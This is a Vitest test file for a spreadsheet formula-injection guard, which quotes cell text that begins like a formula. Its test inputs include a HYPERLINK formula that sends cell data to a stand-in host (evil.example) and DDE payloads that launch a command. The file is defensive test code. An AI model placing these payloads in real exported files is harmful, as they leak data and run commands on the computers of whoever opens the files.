import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutralizeSpreadsheetText } from './spreadsheet-cell.js';

describe('neutralizeSpreadsheetText', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click me")'],
    ['+1'],
    ['-2'],
    ['@cmd'],
    ["=cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\0=1+1'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
  ])('prefixes a quote to %j so it stays text', (text) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(neutralizeSpreadsheetText(text)).toBe(`'${text}`);
  });

  it.each([
    ['Acme renewal'],
    ['شركة الأفق للتقنية'],
    ['2026-03-01T09:00:00.000Z'],
    ['a=b'],
    [' =1'],
    ["'already quoted"],
    [''],
  ])('leaves %j unchanged', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(neutralizeSpreadsheetText(text)).toBe(text);
  });

  it('quotes only once, so neutralising is not repeated on the quoted text', () => {
    const once = neutralizeSpreadsheetText('=1+1');
    expect(neutralizeSpreadsheetText(once)).toBe(once);
  });
});
